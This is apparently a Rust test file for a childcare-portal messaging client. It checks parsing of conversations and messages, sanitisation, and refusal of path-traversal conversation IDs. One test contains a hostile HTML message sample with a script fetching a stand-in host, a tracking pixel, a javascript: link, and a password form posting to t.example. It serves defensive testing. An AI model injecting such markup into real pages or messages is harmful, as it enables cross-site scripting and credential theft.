//! "Berichten" as a portal serves them: read bare or wrapped, cleaned, and never another place asked.

use crate::peer::{answer, app_tokens, noon, ok, portal_at, session};
use schriftje_konnect::{PortalError, Session};
use schriftje_model::ConversationId;
use serde_json::{Value, json};
use wiremock::matchers::{header, method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

const OVERVIEW: &str = "/restservices-parent/logbook/overview";
const DETAILS: &str = "/restservices-parent/logbook/details/k1/summary/false";

const CONVERSATIONS: &[u8] = br#"[{"logMessageMessageId":"k1","subject":"Ophalen","message":
"<p>Oma komt &amp; wacht.</p>","date":1791872100000,"lastWritten":1791872160000,"unread":true,
"lastFromParent":false}]"#;

const EXCHANGE: &[u8] = br#"{"summary":{"subject":"Ophalen"},"messages":[{"message":
"<p>Oma komt.</p>","writtenBy":"Sanne Bloem","date":1791872100000,"childFirstName":"Noor",
"photos":[]},{"message":"<p>Fijn!</p>","writtenBy":"Juf Anne","date":1791872160000,
"childFirstName":"Noor","photos":[{"id":"p9","date":1791842400000,"mediaType":"photo",
"thumbUrl":"https://resource.kidskonnect.cloud/p9-thumb.jpeg?Expires=1&Signature=s"}]}]}"#;

fn k1() -> ConversationId {
    ConversationId("k1".into())
}

fn json_bytes(bytes: impl Into<Vec<u8>>) -> ResponseTemplate {
    answer(200, noon()).set_body_raw(bytes, "application/json")
}

async fn at(path_and_query: &str, template: ResponseTemplate) -> (MockServer, Session) {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(path_and_query))
        .and(header("authorization", "Bearer auth-a"))
        .respond_with(template)
        .mount(&server)
        .await;
    let session = session(portal_at(&server.uri()), app_tokens("a", 15));
    (server, session)
}

fn wrapped(payload: &[u8]) -> Vec<u8> {
    [br#"{"result":true,"payload":"#, payload, br#","messages":[]}"#].concat()
}

#[tokio::test]
async fn conversations_are_read_bare_and_wrapped() {
    for bytes in [CONVERSATIONS.to_vec(), wrapped(CONVERSATIONS)] {
        let (_server, session) = at(OVERVIEW, json_bytes(bytes)).await;
        let page = session.conversations_page(0).await.unwrap();
        assert_eq!((page.received, page.conversations[0].id.clone()), (1, k1()));
        assert_eq!(page.conversations[0].snippet, "Oma komt & wacht.");
    }
}

#[tokio::test]
async fn the_offset_counts_conversations() {
    let server = MockServer::start().await;
    Mock::given(path(OVERVIEW))
        .and(query_param("index", "20"))
        .respond_with(ok(&json!([])))
        .mount(&server)
        .await;
    let session = session(portal_at(&server.uri()), app_tokens("a", 15));
    assert_eq!(session.conversations_page(20).await.unwrap().received, 0);
}

#[tokio::test]
async fn an_exchange_is_read_bare_and_wrapped_with_its_photos() {
    for bytes in [EXCHANGE.to_vec(), wrapped(EXCHANGE)] {
        let (_server, session) = at(DETAILS, json_bytes(bytes)).await;
        let read = session.conversation(&k1()).await.unwrap();
        assert_eq!((read.messages.len(), read.unreadable), (2, 0));
        let second = &read.messages[1];
        assert_eq!(second.author.as_deref(), Some("Juf Anne"));
        assert_eq!(second.photos[0].day.to_string(), "2026-10-13");
        assert_eq!(second.media[0].id.as_str(), "p9");
    }
}

#[tokio::test]
async fn a_hostile_message_is_cleaned() {
    let html = "<script>fetch('https://t.example')</script><p onclick=x()>Dag</p>\
        <img src='https://t.example/pixel?parent=1' width=1><a href='javascript:x()'>klik</a>\
        <a href='https://kdv.example/'>hier</a><style>*{display:none}</style>\
        <form action='https://t.example'><input name=password></form><iframe src=//t.example></iframe>";
    let json: Value = json!({
        "summary": {"subject": "<b>Hoi</b>"},
        "messages": [{"message": html, "writtenBy": "\u{202e}Anne", "date": 1_791_872_100_000_i64}],
    });
    let (_server, session) = at(DETAILS, ok(&json)).await;
    let read = session.conversation(&k1()).await.unwrap();
    let message = &read.messages[0];
    assert_eq!(message.text, "Dag\nklikhier");
    assert_eq!(
        message.html,
        "<p>Dag</p><a rel=\"noopener noreferrer\">klik</a>\
         <a href=\"https://kdv.example/\" rel=\"noopener noreferrer\">hier</a>"
    );
    assert_eq!(message.author.as_deref(), Some("Anne"));
    // A subject is text, never mark-up: whoever shows it shows it as it is.
    assert_eq!(read.subject.as_deref(), Some("<b>Hoi</b>"));
}

#[tokio::test]
async fn an_identity_that_leads_elsewhere_is_not_asked_for() {
    let (server, session) = at(DETAILS, json_bytes(EXCHANGE)).await;
    for id in ["..", "../../auth-api/login", "", "a/b", "k 1"] {
        let refused = session.conversation(&ConversationId(id.into())).await;
        assert_eq!(refused, Err(PortalError::Refused { status: 404, message_code: None }), "{id}");
    }
    assert!(server.received_requests().await.unwrap().is_empty());
}

#[tokio::test]
async fn another_shape_is_a_changed_portal() {
    let (_server, session) = at(OVERVIEW, ok(&json!({"conversations": 7}))).await;
    let changed = PortalError::Changed { what: "logbook.overview" };
    assert_eq!(session.conversations_page(0).await, Err(changed));
    let (_server, session) = at(DETAILS, ok(&json!([]))).await;
    let changed = PortalError::Changed { what: "logbook.details" };
    assert_eq!(session.conversation(&k1()).await, Err(changed));
}
